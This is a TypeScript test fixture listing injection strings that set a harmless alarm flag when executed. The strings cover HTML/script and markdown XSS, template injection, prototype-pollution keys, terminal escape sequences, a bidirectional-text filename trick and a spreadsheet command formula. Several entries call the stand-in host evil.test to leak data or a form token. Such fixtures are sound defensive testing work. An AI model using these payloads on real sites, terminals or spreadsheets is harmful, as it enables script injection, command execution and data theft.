// Strings that hurt where text is taken for something else. Each raises the alarm when it runs.

export const ALARM = "__alarm";

export const HOSTILE: string[] = [
  `<script>window.${ALARM}=1</script>`,
  `<img src=x onerror="window.${ALARM}=1">`,
  `"><svg onload=window.${ALARM}=1>`,
  `'-window.${ALARM}=1-'`,
  `javascript:window.${ALARM}=1`,
  `[click](javascript:window.${ALARM}=1)`,
  `[click](data:text/html,<script>parent.${ALARM}=1</script>)`,
  `![x](http://evil.test/read-receipt.png)`,
  `<iframe srcdoc="<script>parent.${ALARM}=1</script>"></iframe>`,
  `<a href="javascript:window.${ALARM}=1" id=clickme>x</a>`,
  `<style>*{background:url(http://evil.test/leak)}</style>`,
  `<base href="http://evil.test/"><form action=http://evil.test><input name=token></form>`,
  `<meta http-equiv=refresh content="0;url=http://evil.test">`,
  "${window.__alarm=1}{{constructor.constructor('window.__alarm=1')()}}",
  "\u001b]52;c;ZXZpbA==\u0007\u001b[2J\u001b]8;;http://evil.test\u001b\\link\u001b]8;;\u001b\\",
  "\u202egnp.exe\u2066 \u009b31m",
  "--></script><script>window.__alarm=1</script><!--",
  "__proto__", "constructor", "=cmd|'/C calc'!A0",
];
